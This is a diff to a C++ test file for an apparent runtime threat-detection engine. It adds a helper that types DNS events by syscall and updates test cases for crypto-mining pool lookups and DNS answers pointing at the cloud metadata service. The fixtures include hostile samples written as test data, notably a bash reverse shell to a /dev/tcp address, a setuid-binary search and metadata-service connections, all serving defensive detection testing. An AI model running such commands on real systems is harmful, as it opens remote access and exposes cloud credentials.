@@ -24,6 +24,13 @@ Event arg(Event ev, const char* name, const char* value) {
   return ev;
 }
 
+// A DNS message as the tracer reports it: typed after its syscall (a sendto
+// row, or recvfrom/read/... in the DNS window), which the DNS rules name.
+Event dns_msg(Event ev, const char* type = "recvfrom") {
+  ev.type = type;
+  return ev;
+}
+
 Event mode(Event ev, int64_t m) {
   ev.file->mode = m;
   return ev;
@@ -41,7 +48,8 @@ std::vector<Case> default_cases() {
   c.push_back({"Connection to a crypto-mining pool port", connect_ev("203.0.113.5", 3333), connect_ev("203.0.113.5", 443)});
   c.push_back({"Mining protocol spoken", arg(connect_ev("203.0.113.5", 443, nullptr, "sendmsg"), "protocol", "stratum"),
                connect_ev("203.0.113.5", 443, nullptr, "sendmsg")});
-  c.push_back({"Mining pool domain queried", dns_ev("xmr-eu1.nanopool.org"), dns_ev("nanopool.org.example.com")});
+  c.push_back({"Mining pool domain queried", dns_msg(dns_ev("xmr-eu1.nanopool.org"), "sendto"),
+               dns_msg(dns_ev("nanopool.org.example.com"), "sendto")});
   c.push_back({"Reverse shell", exec_p(with(proc("/bin/bash", {"bash", "-i"}), [](Process& p) { p.stdio_net = true; })),
                exec_ev("/bin/bash", {"bash", "-i"})});
   c.push_back({"Reverse shell", exec_ev("/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"}),
@@ -168,7 +176,8 @@ std::vector<Case> default_cases() {
                exec_ev("/bin/sh", {"sh", "-c", "echo $AWS_REGION"})});
   c.push_back({"Instance metadata service contacted", connect_ev("169.254.169.254", 80, proc("/app/server", {"server"})),
                connect_ev("169.254.170.2", 80, proc("/app/server", {"server"}))});
-  c.push_back({"DNS answer points at the metadata service", dns_ev("rebind.example.com", {"169.254.169.254"}), dns_ev("example.com", {"93.184.216.34"})});
+  c.push_back({"DNS answer points at the metadata service", dns_msg(dns_ev("rebind.example.com", {"169.254.169.254"})),
+               dns_msg(dns_ev("example.com", {"93.184.216.34"}))});
   c.push_back({"Tor client or relay activity", connect_ev("203.0.113.7", 9001), connect_ev("203.0.113.7", 9000)});
   c.push_back({"Container environment reconnaissance", exec_ev("/usr/bin/find", {"find", "/", "-perm", "-4000"}), exec_ev("/usr/bin/find", {"find", ".", "-name", "*.c"})});
   c.push_back({"Package manager run in container", exec_ev("/usr/bin/apt-get", {"apt-get", "install", "nmap"}), exec_ev("/usr/bin/aptly", {"aptly"})});
